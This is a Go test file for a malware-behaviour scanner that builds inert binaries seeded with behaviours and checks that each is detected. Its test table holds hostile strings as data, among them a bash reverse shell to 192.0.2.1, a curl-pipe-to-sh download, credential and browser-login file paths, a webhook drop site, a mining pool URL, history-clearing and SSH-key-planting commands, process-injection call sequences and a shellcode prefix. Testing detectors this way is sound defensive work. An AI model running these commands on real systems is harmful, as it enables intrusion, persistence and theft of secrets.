package native_test

import (
	"encoding/hex"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/loupe-sec/loupe/internal/core/inventory"
	"github.com/loupe-sec/loupe/internal/core/scan"
	"github.com/loupe-sec/loupe/internal/core/workspace"
	"github.com/loupe-sec/loupe/internal/formats/native/synth"
	"github.com/loupe-sec/loupe/internal/scanners/native"
)

// These tests plant behaviours in inert programs and expect what is planted to
// be detected, and nothing else. Nothing that they build is ever run: each
// program takes the functions and holds the texts and bytes that a behaviour
// needs, and calls the functions with the texts for arguments.

const (
	network    = inventory.Network
	filesystem = inventory.Filesystem
	process    = inventory.Process
	crypto     = inventory.Crypto
	hiding     = inventory.Obfuscation
	theft      = inventory.DataExfiltration
)

// A planted is a behaviour to plant.
type planted struct {
	name  string
	want  []inventory.BehaviorName // all that must be detected
	rule  string                   // that must report, with native/ left out
	calls map[string][]string      // by system, each "function@library"; nil: the texts and bytes do for every system
	holds []string                 // texts
	bytes string                   // a constant, hexadecimal
	parts []synth.Section          // sections that a compiler would not make
}

const (
	libc    = "@libc.so.6"
	system  = "@/usr/lib/libSystem.B.dylib"
	kernel  = "@KERNEL32.dll"
	sockets = "@WS2_32.dll"
	admin   = "@ADVAPI32.dll"
	wasi    = "@wasi_snapshot_preview1"
)

// each appends a library to names.
func each(library string, names ...string) []string {
	for i := range names {
		names[i] += library
	}
	return names
}

// unix calls the same functions on Linux and macOS.
func unix(names ...string) map[string][]string {
	return map[string][]string{"linux": each(libc, slices.Clone(names)...), "darwin": each(system, slices.Clone(names)...)}
}

// and adds a system to calls.
func and(calls map[string][]string, os string, names []string) map[string][]string {
	calls[os] = names
	return calls
}

func behaviors(names ...inventory.BehaviorName) []inventory.BehaviorName { return names }

var plan = []planted{
	{name: "nothing", calls: and(unix("memcpy", "strlen", "getenv"), "windows", each(kernel, "GetTickCount64", "Sleep")), holds: []string{"usage: %s FILE"}},
	{name: "connect", want: behaviors(network), rule: "connects-out", calls: and(and(unix("socket", "connect"), "windows", each(sockets, "socket", "connect")), "wasi", each(wasi, "sock_connect"))},
	{name: "listen", want: behaviors(network), rule: "listens", calls: and(unix("socket", "bind", "listen", "accept"), "windows", each(sockets, "socket", "bind", "listen", "accept"))},
	{name: "dns", want: behaviors(network), rule: "resolves-names", calls: and(unix("getaddrinfo"), "windows", each(sockets, "getaddrinfo"))},
	{name: "http", want: behaviors(network), rule: "http-client", calls: map[string][]string{
		"linux": {"curl_easy_init@libcurl.so.4", "curl_easy_perform@libcurl.so.4"}, "darwin": {"curl_easy_init@/usr/lib/libcurl.4.dylib", "curl_easy_perform@/usr/lib/libcurl.4.dylib"},
		"windows": {"WinHttpOpen@WINHTTP.dll", "WinHttpConnect@WINHTTP.dll", "WinHttpSendRequest@WINHTTP.dll"}}},
	{name: "udp", want: behaviors(network), rule: "sends-datagrams", calls: and(unix("socket", "sendto"), "windows", each(sockets, "socket", "sendto"))},
	{name: "tls", want: behaviors(network), rule: "speaks-tls", calls: map[string][]string{
		"linux": {"SSL_CTX_new@libssl.so.3", "SSL_connect@libssl.so.3"}, "windows": {"AcquireCredentialsHandleW@SECUR32.dll", "InitializeSecurityContextW@SECUR32.dll"},
		"darwin": {"SSLHandshake@/System/Library/Frameworks/Security.framework/Versions/A/Security"}}},
	{name: "read file", want: behaviors(filesystem), rule: "reads-writes-files", holds: []string{"/tmp/input"}, calls: and(and(unix("fopen", "fread"), "windows", each(kernel, "CreateFileW", "ReadFile")), "wasi", each(wasi, "path_open", "fd_read"))},
	{name: "write file", want: behaviors(filesystem), rule: "reads-writes-files", holds: []string{"/tmp/output"}, calls: and(unix("open", "write"), "windows", each(kernel, "CreateFileA", "WriteFile"))},
	{name: "delete", want: behaviors(filesystem), rule: "deletes-files", calls: and(and(unix("unlink"), "windows", each(kernel, "DeleteFileW")), "wasi", each(wasi, "path_unlink_file"))},
	{name: "list folder", want: behaviors(filesystem), rule: "lists-folders", calls: and(and(unix("opendir", "readdir"), "windows", each(kernel, "FindFirstFileW", "FindNextFileW")), "wasi", each(wasi, "fd_readdir"))},
	{name: "permissions", want: behaviors(filesystem), rule: "changes-permissions", calls: and(unix("chmod"), "windows", each(admin, "SetFileSecurityW"))},
	{name: "rename", want: behaviors(filesystem), rule: "changes-files", calls: and(unix("rename", "mkdir"), "windows", each(kernel, "MoveFileExW", "CreateDirectoryW"))},
	{name: "cron", want: behaviors(filesystem, process), rule: "schedules-tasks", holds: []string{"/etc/cron.d/update"}, calls: map[string][]string{"linux": each(libc, "fopen", "fputs")}},
	{name: "launch agent", want: behaviors(filesystem, process), rule: "starts-with-session", holds: []string{"%s/Library/LaunchAgents/com.example.plist"}, calls: map[string][]string{"darwin": each(system, "fopen", "fputs")}},
	{name: "systemd unit", want: behaviors(filesystem, process), rule: "starts-with-session", holds: []string{"%s/.config/systemd/user/update.service"}, calls: map[string][]string{"linux": each(libc, "open64", "write")}},
	{name: "run key", want: behaviors(process), rule: "starts-with-session", holds: []string{`Software\Microsoft\Windows\CurrentVersion\Run`}, calls: map[string][]string{"windows": each(admin, "RegOpenKeyExA", "RegSetValueExA")}},
	{name: "exec", want: behaviors(process), rule: "starts-programs", calls: and(unix("fork", "execve"), "windows", each(kernel, "CreateProcessW"))},
	{name: "shell", want: behaviors(process), rule: "runs-shell", holds: []string{"id > /dev/null"}, calls: and(unix("system"), "windows", []string{"system@msvcrt.dll"})},
	{name: "trace", want: behaviors(process), rule: "inspects-processes", calls: and(unix("ptrace", "waitpid"), "windows", each(kernel, "OpenProcess", "ReadProcessMemory"))},
	{name: "inject", want: behaviors(process), rule: "injects-code", calls: map[string][]string{
		"linux": each(libc, "ptrace", "waitpid", "process_vm_writev"), "darwin": each(system, "task_for_pid", "mach_vm_write", "thread_create_running"),
		"windows": each(kernel, "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")}},
	{name: "find and inject", want: behaviors(process), rule: "injects-code-by-name", calls: map[string][]string{
		"windows": each(kernel, "Process32FirstW", "Process32NextW", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")}},
	{name: "run from memory", want: behaviors(process), rule: "runs-code-from-memory", calls: map[string][]string{"linux": each(libc, "memfd_create", "write", "fexecve")}},
	{name: "kernel module", want: behaviors(process), rule: "loads-kernel-module", holds: []string{"insmod /tmp/driver.ko"}},
	{name: "kill", want: behaviors(process), rule: "ends-processes", calls: and(unix("kill"), "windows", each(kernel, "OpenProcess", "TerminateProcess"))},
	{name: "aes", want: behaviors(crypto), rule: "uses-aes", bytes: "637c777bf26b6fc53001672bfed7ab76ca82c97dfa5947f0add4a2af9ca472c0"},
	{name: "sha-256", want: behaviors(crypto), rule: "hashes-sha2", bytes: "982f8a4291443771cffbc0b5a5dbb5e95bc25639f111f159a4823f92d55e1cab"},
	{name: "blowfish", want: behaviors(crypto), rule: "uses-blowfish", bytes: "886a3f24d308a3852e8a191344737003223809a4d0319f2998fa2e08896c4eec"},
	{name: "chacha", want: behaviors(crypto), rule: "uses-chacha", holds: []string{"expand 32-byte k"}},
	{name: "md5", want: behaviors(crypto), rule: "hashes-weakly", bytes: "78a46ad756b7c7e8db702024eecebdc1af0f7cf52ac68747134630a8019546fd"},
	{name: "anti-debug", want: behaviors(hiding), rule: "looks-for-debugger", calls: map[string][]string{"windows": each(kernel, "CheckRemoteDebuggerPresent", "ExitProcess")}},
	{name: "sandbox", want: behaviors(hiding), rule: "looks-for-sandbox", holds: []string{"VBoxService.exe", "vmtoolsd.exe", "SbieDll.dll"}},
	{name: "packed", want: behaviors(hiding), rule: "packed-code", parts: []synth.Section{{Name: ".packed", Content: synth.Content{Random: 1 << 16}, Flags: "rx"}}, calls: map[string][]string{"linux": nil, "windows": nil}},
	{name: "packed with upx", want: behaviors(hiding), rule: "packed-with-upx", calls: map[string][]string{"windows": each(kernel, "LoadLibraryA", "GetProcAddress", "VirtualProtect")},
		parts: []synth.Section{{Name: "UPX0", Size: 1 << 14, Flags: "rwx"}, {Name: "UPX1", Content: synth.Content{Random: 1 << 15}, Flags: "rwx"}}},
	{name: "steal credentials", want: behaviors(theft, network, filesystem), rule: "steals-credentials", holds: []string{"%s/.ssh/id_rsa", "%s/.aws/credentials", "%s/.npmrc", "%s/.kube/config"},
		calls: and(unix("open", "read", "socket", "connect", "send"), "windows", append(each(kernel, "CreateFileA", "ReadFile"), each(sockets, "socket", "connect", "send")...))},
	{name: "steal one key", want: behaviors(theft, network, filesystem), rule: "reads-credentials", holds: []string{"/root/.ssh/id_rsa"}, calls: unix("fopen", "fread", "socket", "connect", "send")},
	{name: "send environment", want: behaviors(theft, network), rule: "sends-environment", calls: and(unix("gethostname", "socket", "connect", "send"), "windows", append(each(kernel, "GetEnvironmentStringsW"), each(sockets, "socket", "connect", "send")...))},
	{name: "browser", want: behaviors(theft), rule: "steals-browser-data", holds: []string{`\Google\Chrome\User Data\Default\Login Data`, "/.config/google-chrome/Default/Login Data"}},
	{name: "webhook", want: behaviors(theft), rule: "names-drop-site", holds: []string{"https://discord.com/api/webhooks/123456789012345678/token"}},
	{name: "reverse shell", want: behaviors(process, network), rule: "opens-reverse-shell", holds: []string{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}},
	{name: "miner", want: behaviors(process), rule: "mines-coins", holds: []string{"stratum+tcp://pool.registry.example:3333"}},
	{name: "download and run", want: behaviors(process, network), rule: "fetches-and-runs", holds: []string{"curl -fsSL http://registry.example/x.sh | sh"}},
	{name: "clear history", want: behaviors(process), rule: "hides-shell-history", holds: []string{"unset HISTFILE"}},
	{name: "add key", want: behaviors(filesystem), rule: "adds-ssh-key", holds: []string{"echo '%s' >> /root/.ssh/authorized_keys"}},
	{name: "shellcode", want: behaviors(process), rule: "carries-shellcode", bytes: "fc4883e4f0e8c0000000415141505251564831d265488b5260"},
}

// A program is a built binary and what must be found in it.
type program struct {
	file string // below the folder that is scanned
	planted
}

// check scans folder and holds what is detected against what was planted.
func check(t *testing.T, folder string, programs []program) {
	t.Helper()
	if len(programs) == 0 {
		t.Fatal("nothing was built")
	}
	root, err := os.OpenRoot(folder)
	if err != nil {
		t.Fatal(err)
	}
	ws := workspace.New(workspace.Limits{}, "")
	defer ws.Close()
	if err := ws.MountDir(workspace.Part{}, root, nil); err != nil {
		t.Fatal(err)
	}
	res, err := scan.Run(t.Context(), []*scan.Scanner{native.Scanner}, ws, nil, scan.Options{Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	binaries := inventory.Binaries.Of(res)
	if len(binaries) == 0 {
		t.Fatalf("no binary was looked at: %v", res.Notes[:min(len(res.Notes), 3)])
	}
	detected := map[string]inventory.Behaviors{}
	for _, b := range binaries {
		if detected[b.Path] == nil {
			detected[b.Path] = inventory.Behaviors{}
		}
		for name, details := range b.Behaviors { // slices of a fat file add up
			detected[b.Path][name] = append(detected[b.Path][name], details...)
		}
	}
	reported := map[string]bool{}
	for _, f := range res.Findings {
		reported[f.Location.Path+" "+strings.TrimPrefix(f.Rule, "native/")] = true
	}
	for _, p := range programs {
		got, ok := detected[p.file]
		if !ok {
			t.Errorf("%s: not recognised as a binary", p.file)
			continue
		}
		want := slices.Sorted(slices.Values(p.want))
		if names := slices.Sorted(maps.Keys(got)); !slices.Equal(names, want) {
			t.Errorf("%s: %v detected, want %v\n%s", p.file, names, want, lines(got))
		}
		if p.rule != "" && !reported[p.file+" "+p.rule] {
			t.Errorf("%s: not reported by %s", p.file, p.rule)
		}
	}
}

func lines(b inventory.Behaviors) string {
	var out []string
	for _, name := range slices.Sorted(maps.Keys(b)) {
		for _, d := range b[name] {
			out = append(out, fmt.Sprintf("\t%s: %s: %s", name, d.Rule, d.Text))
		}
	}
	return strings.Join(out, "\n")
}

// fileName turns the name of a behaviour into one of a file.
func fileName(p planted) string { return strings.ReplaceAll(p.name, " ", "-") }

func write(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestPlantedInSynthetic plants every behaviour in the smallest binaries that
// each format allows.
func TestPlantedInSynthetic(t *testing.T) {
	for _, form := range []struct {
		format, os string
		arches     []string
	}{
		{"elf", "linux", []string{"x86_64", "x86", "aarch64", "arm", "riscv64"}},
		{"pe", "windows", []string{"x86_64", "x86", "aarch64"}},
		{"macho", "darwin", []string{"x86_64", "aarch64"}},
		{"wasm", "wasi", []string{"wasm32"}},
	} {
		t.Run(form.format, func(t *testing.T) {
			folder := t.TempDir()
			var programs []program
			for _, p := range plan {
				calls, ok := p.calls[form.os]
				if !ok && p.calls != nil || p.parts != nil && form.format == "wasm" {
					continue
				}
				for _, arch := range form.arches {
					d := synth.Description{Format: form.format, Arch: synth.List{arch}, Strings: p.holds, Sections: p.parts}
					plant := synth.Definition{Name: "plant"}
					for _, c := range calls {
						name, library, _ := strings.Cut(c, "@")
						d.Imports = append(d.Imports, synth.Import{Name: name, Library: library})
						plant.Calls = append(plant.Calls, synth.Call{Name: name})
					}
					d.Exports = []synth.Definition{plant}
					if p.bytes != "" {
						raw, err := hex.DecodeString(p.bytes)
						if err != nil {
							t.Fatal(err)
						}
						d.Bytes = []synth.Hex{raw}
					}
					data, err := synth.Build(d)
					if err != nil {
						t.Fatalf("%s: %v", p.name, err)
					}
					file := arch + "/" + fileName(p)
					write(t, filepath.Join(folder, file), data)
					programs = append(programs, program{file, p})
				}
			}
			check(t, folder, programs)
		})
	}
}

// source returns C that calls the functions of a behaviour without any header,
// each with the texts and bytes for arguments.
func source(p planted, calls []string, imports string) []byte {
	var b strings.Builder
	var args []string
	for i, text := range p.holds {
		fmt.Fprintf(&b, "const char text%d[] = %s;\n", i, strconv.Quote(text))
		args = append(args, "text"+strconv.Itoa(i))
	}
	if raw, _ := hex.DecodeString(p.bytes); len(raw) > 0 {
		b.WriteString("const unsigned char bytes[] = {")
		for _, c := range raw {
			fmt.Fprintf(&b, "%d,", c)
		}
		b.WriteString("};\n")
		args = append(args, "bytes")
	}
	b.WriteString("const void *volatile kept;\nvolatile int never;\n")
	for _, c := range calls {
		name, library, _ := strings.Cut(c, "@")
		attribute := ""
		if imports != "" {
			attribute = fmt.Sprintf(imports, library, name)
		}
		fmt.Fprintf(&b, "%s long %s();\n", attribute, name)
	}
	b.WriteString("long plant(void) {\n\tlong sum = 0;\n")
	for _, a := range args {
		fmt.Fprintf(&b, "\tkept = %s;\n", a)
	}
	for _, c := range calls {
		name, _, _ := strings.Cut(c, "@")
		fmt.Fprintf(&b, "\tif (never) sum += %s(%s);\n", name, strings.Join(args, ", "))
	}
	b.WriteString("\treturn sum;\n}\n#ifdef WHOLE\nint main(void) { return (int)plant(); }\n#endif\n")
	return []byte(b.String())
}

// need returns the paths of tools, or skips the test.
func need(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not there", tool)
		}
	}
}

func run(t *testing.T, folder, tool string, args ...string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), tool, args...)
	cmd.Dir = folder
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s %s: %v\n%s", tool, strings.Join(args, " "), err, out)
	}
}

var plainC = []string{"-c", "-O1", "-std=gnu89", "-w", "-ffreestanding", "-fno-builtin", "-fno-stack-protector"}

// TestPlantedInLibraries compiles every behaviour into libraries for many
// machines, linked without the C library of any: what is planted is all that
// they hold.
func TestPlantedInLibraries(t *testing.T) {
	need(t, "clang-16", "ld.lld-16", "ld64.lld-16", "lld-link-16", "wasm-ld-16", "llvm-dlltool-16")
	for _, target := range []struct {
		name, os, triple string
		turn, of         int // the behaviours of a system take turns with its machines
		compile          []string
		link             []string // linker and its arguments; objects and the output follow
	}{
		{"elf-x86_64", "linux", "x86_64-linux-gnu", 0, 5, []string{"-fPIC"}, []string{"ld.lld-16", "-shared", "-o"}},
		{"elf-x86", "linux", "i686-linux-gnu", 1, 5, []string{"-fPIC"}, []string{"ld.lld-16", "-shared", "-o"}},
		{"elf-aarch64", "linux", "aarch64-linux-gnu", 2, 5, []string{"-fPIC"}, []string{"ld.lld-16", "-shared", "-o"}},
		{"elf-arm", "linux", "armv7-linux-gnueabihf", 3, 5, []string{"-fPIC"}, []string{"ld.lld-16", "-shared", "-o"}},
		{"elf-riscv64", "linux", "riscv64-linux-gnu", 4, 5, []string{"-fPIC"}, []string{"ld.lld-16", "-shared", "-o"}},
		{"pe-x86_64", "windows", "x86_64-pc-windows-msvc", 0, 3, nil, []string{"lld-link-16", "/dll", "/noentry", "/nodefaultlib", "/export:plant", "/machine:x64"}},
		{"pe-x86", "windows", "i686-pc-windows-msvc", 1, 3, nil, []string{"lld-link-16", "/dll", "/noentry", "/nodefaultlib", "/safeseh:no", "/export:plant", "/machine:x86"}},
		{"pe-aarch64", "windows", "aarch64-pc-windows-msvc", 2, 3, nil, []string{"lld-link-16", "/dll", "/noentry", "/nodefaultlib", "/export:plant", "/machine:arm64"}},
		{"macho-x86_64", "darwin", "x86_64-apple-macos11", 0, 2, nil, []string{"ld64.lld-16", "-dylib", "-arch", "x86_64", "-platform_version", "macos", "11.0", "11.0", "-undefined", "dynamic_lookup", "-o"}},
		{"macho-aarch64", "darwin", "arm64-apple-macos11", 1, 2, nil, []string{"ld64.lld-16", "-dylib", "-arch", "arm64", "-platform_version", "macos", "11.0", "11.0", "-undefined", "dynamic_lookup", "-o"}},
		{"wasm", "wasi", "wasm32", 0, 1, nil, []string{"wasm-ld-16", "--no-entry", "--export=plant", "--export=kept", "-o"}},
	} {
		t.Run(target.name, func(t *testing.T) {
			folder, out := t.TempDir(), t.TempDir()
			var sources, objects []string
			var programs []program
			libraries := map[string][]string{}
			for j, p := range plan {
				calls, ok := p.calls[target.os]
				mine := j%target.of == target.turn || target.of == 5 && (j+2)%5 == target.turn
				if !ok && p.calls != nil || p.parts != nil || j > 0 && !mine {
					continue
				}
				imports := ""
				if target.os == "wasi" {
					imports = `__attribute__((import_module("%s"), import_name("%s")))`
				}
				write(t, filepath.Join(folder, fileName(p)+".c"), source(p, calls, imports))
				sources = append(sources, fileName(p)+".c")
				objects = append(objects, fileName(p)+".o")
				programs = append(programs, program{fileName(p), p})
				for _, c := range calls {
					name, library, _ := strings.Cut(c, "@")
					libraries[library] = append(libraries[library], name)
				}
			}
			run(t, folder, "clang-16", slices.Concat([]string{"--target=" + target.triple}, plainC, target.compile, sources)...)
			var imports []string
			if target.os == "windows" {
				imports = importLibraries(t, folder, target.link[len(target.link)-1], libraries)
			}
			for k, object := range objects {
				file := filepath.Join(out, programs[k].file)
				args := slices.Clone(target.link[1:])
				if target.os == "windows" {
					args = append(append(args, "/out:"+file, object), imports...)
				} else {
					args = append(args, file, object)
				}
				run(t, folder, target.link[0], args...)
			}
			check(t, out, programs)
		})
	}
}

// importLibraries makes an import library for each DLL, and returns their
// names.
func importLibraries(t *testing.T, folder, machine string, libraries map[string][]string) (out []string) {
	t.Helper()
	arch := map[string]string{"/machine:x64": "i386:x86-64", "/machine:x86": "i386", "/machine:arm64": "arm64"}[machine]
	for _, dll := range slices.Sorted(maps.Keys(libraries)) {
		names := slices.Compact(slices.Sorted(slices.Values(libraries[dll])))
		write(t, filepath.Join(folder, dll+".def"), []byte("LIBRARY "+dll+"\nEXPORTS\n"+strings.Join(names, "\n")+"\n"))
		run(t, folder, "llvm-dlltool-16", "-m", arch, "-d", dll+".def", "-l", dll+".lib")
		out = append(out, dll+".lib")
	}
	return out
}

// hosted reports whether the C library of a system has all that is called.
func hosted(os string, calls []string) bool {
	with := map[string][]string{"linux": {"libc.so.6"}, "windows": {"KERNEL32.dll", "WS2_32.dll", "ADVAPI32.dll", "WINHTTP.dll", "SECUR32.dll", "msvcrt.dll"}}[os]
	return !slices.ContainsFunc(calls, func(c string) bool {
		_, library, _ := strings.Cut(c, "@")
		return !slices.Contains(with, library)
	})
}

// TestPlantedInPrograms compiles the behaviours into whole programs with the C
// libraries of several systems. What their start-up code brings along must not
// be detected.
func TestPlantedInPrograms(t *testing.T) {
	type compiler struct {
		name, tool, os string
		flags          []string
	}
	var compilers []compiler
	for _, c := range []compiler{
		{"gcc", "gcc", "linux", []string{"-O2"}},
		{"gcc-static", "gcc", "linux", []string{"-O2", "-static"}},
		{"gcc-stripped", "gcc", "linux", []string{"-Os", "-s", "-no-pie"}},
		{"aarch64", "aarch64-linux-gnu-gcc", "linux", []string{"-O2"}},
		{"arm", "arm-linux-gnueabihf-gcc", "linux", []string{"-O2"}},
		{"riscv64", "riscv64-linux-gnu-gcc", "linux", []string{"-O2"}},
		{"mingw", "x86_64-w64-mingw32-gcc", "windows", []string{"-O2"}},
		{"mingw-stripped", "x86_64-w64-mingw32-gcc", "windows", []string{"-Os", "-s"}},
	} {
		if _, err := exec.LookPath(c.tool); err == nil {
			compilers = append(compilers, c)
		}
	}
	if len(compilers) == 0 {
		t.Skip("no C compiler is there")
	}
	for i, c := range compilers {
		t.Run(c.name, func(t *testing.T) {
			folder, out := t.TempDir(), t.TempDir()
			write(t, filepath.Join(folder, "main.c"), []byte("int main(void) { return 0; }\n"))
			cmd := exec.CommandContext(t.Context(), c.tool, append(slices.Clone(c.flags), "-o", "main", "main.c")...)
			cmd.Dir = folder
			if text, err := cmd.CombinedOutput(); err != nil {
				t.Skipf("%s has no C library: %v\n%s", c.tool, err, text)
			}
			var programs []program
			for j, p := range plan {
				calls, ok := p.calls[c.os]
				static := slices.Contains(c.flags, "-static")
				switch {
				case !ok && p.calls != nil, p.parts != nil, !hosted(c.os, calls):
					continue
				case static && len(calls) > 0 && !slices.Contains([]string{"nothing", "connect", "listen", "exec", "delete", "permissions"}, p.name):
					continue // a static program has no imports, and symbols for more than it uses
				case j > 0 && (i+j)%3 != 0 && !static:
					continue // each behaviour has its turn with every third compiler
				}
				write(t, filepath.Join(folder, fileName(p)+".c"), source(p, calls, ""))
				args := slices.Concat([]string{"-DWHOLE", "-std=gnu89", "-w", "-fno-builtin"}, c.flags, []string{"-o", filepath.Join(out, fileName(p)), fileName(p) + ".c"})
				if c.os == "windows" {
					args = append(args, "-lws2_32", "-ladvapi32", "-lwinhttp", "-lsecur32")
				}
				run(t, folder, c.tool, args...)
				file := fileName(p)
				if _, err := os.Stat(filepath.Join(out, file)); err != nil {
					file += ".exe" // which mingw adds by itself
				}
				programs = append(programs, program{file, p})
			}
			check(t, out, programs)
		})
	}
}

// TestPlantedInGo builds Go programs for three systems. All that Go's own
// library brings along must not be detected.
func TestPlantedInGo(t *testing.T) {
	if testing.Short() {
		t.Skip("building Go programs takes long")
	}
	need(t, "go")
	want := map[string]planted{
		"empty":    {},
		"print":    {},
		"environ":  {},
		"dial":     {want: behaviors(network), rule: "connects-out"},
		"listen":   {want: behaviors(network), rule: "listens"},
		"execute":  {want: behaviors(process), rule: "starts-programs"},
		"shell":    {want: behaviors(process), rule: "runs-shell"},
		"readfile": {want: behaviors(filesystem), rule: "reads-writes-files"},
		"remove":   {want: behaviors(filesystem), rule: "deletes-files"},
		"aes":      {want: behaviors(crypto), rule: "uses-aes"},
		"steal":    {want: behaviors(network, filesystem, theft), rule: "reads-credentials"},
	}
	sources, err := filepath.Abs(filepath.Join("testdata", "behavior", "go"))
	if err != nil {
		t.Fatal(err)
	}
	for _, goos := range []string{"linux", "windows", "darwin"} {
		t.Run(goos, func(t *testing.T) {
			folder, out := t.TempDir(), t.TempDir()
			write(t, filepath.Join(folder, "go.mod"), []byte("module plant.example\n\ngo 1.24\n"))
			var programs []program
			for _, name := range slices.Sorted(maps.Keys(want)) {
				data, err := os.ReadFile(filepath.Join(sources, name+".go"))
				if err != nil {
					t.Fatal(err)
				}
				write(t, filepath.Join(folder, name, "main.go"), data)
				file := name
				if goos == "windows" {
					file += ".exe"
				}
				programs = append(programs, program{file, want[name]})
			}
			cmd := exec.CommandContext(t.Context(), "go", "build", "-trimpath", "-ldflags=-s -w", "-o", out+string(filepath.Separator), "./...")
			cmd.Dir = folder
			cmd.Env = append(os.Environ(), "GOOS="+goos, "GOARCH=amd64", "CGO_ENABLED=0", "GOFLAGS=", "GOWORK=off", "GOPROXY=off", "GOTOOLCHAIN=local")
			if text, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("go build: %v\n%s", err, text)
			}
			check(t, out, programs)
		})
	}
}

// TestPlantedInRust compiles Rust programs for this machine.
func TestPlantedInRust(t *testing.T) {
	need(t, "rustc")
	want := map[string]planted{
		"empty":   {},
		"print":   {},
		"connect": {want: behaviors(network), rule: "connects-out"},
		"read":    {want: behaviors(filesystem), rule: "reads-writes-files"},
		"remove":  {want: behaviors(filesystem), rule: "deletes-files"},
		"execute": {want: behaviors(process), rule: "starts-programs"},
	}
	out := t.TempDir()
	var programs []program
	for _, name := range slices.Sorted(maps.Keys(want)) {
		src, err := filepath.Abs(filepath.Join("testdata", "behavior", "rust", name+".rs"))
		if err != nil {
			t.Fatal(err)
		}
		run(t, out, "rustc", "-C", "opt-level=1", "-o", name, src)
		programs = append(programs, program{name, want[name]})
	}
	check(t, out, programs)
}

// TestPlantedInCXX compiles C++ programs with the C++ library linked in either
// way: streams alone are no files.
func TestPlantedInCXX(t *testing.T) {
	need(t, "g++")
	out := t.TempDir()
	const stream = "#include <iostream>\nint main() { std::cout << \"text\" << std::endl; }\n"
	const file = "#include <fstream>\nint main() { std::ofstream f(\"x\"); f << 1; }\n"
	write(t, filepath.Join(out, "stream.cc"), []byte(stream))
	write(t, filepath.Join(out, "file.cc"), []byte(file))
	run(t, out, "g++", "-O1", "-o", "stream", "stream.cc")
	run(t, out, "g++", "-O1", "-static-libstdc++", "-static-libgcc", "-o", "stream-linked", "stream.cc")
	run(t, out, "g++", "-O1", "-static", "-o", "stream-static", "stream.cc")
	run(t, out, "g++", "-O1", "-o", "file", "file.cc")
	check(t, out, []program{
		{"stream", planted{}}, {"stream-linked", planted{}}, {"stream-static", planted{}},
		{"file", planted{want: behaviors(filesystem), rule: "reads-writes-files"}},
	})
}

// TestSystem scans the dynamic linker and the C library of this system, which
// name and import things that are suspicious anywhere else.
func TestSystem(t *testing.T) {
	out := t.TempDir()
	var programs []program
	does := map[string][]inventory.BehaviorName{ // a linker that is run as a program opens another and becomes it
		"/lib64/ld-linux-x86-64.so.2": behaviors(filesystem, process), "/lib/ld-linux-aarch64.so.1": behaviors(filesystem, process),
		"/usr/lib/x86_64-linux-gnu/libstdc++.so.6": nil, "/usr/lib/x86_64-linux-gnu/libgcc_s.so.1": nil,
	}
	for path, want := range does {
		if data, err := os.ReadFile(path); err == nil {
			write(t, filepath.Join(out, filepath.Base(path)), data)
			programs = append(programs, program{filepath.Base(path), planted{want: want}})
		}
	}
	if len(programs) == 0 {
		t.Skip("no libraries of Linux are there")
	}
	check(t, out, programs)
}
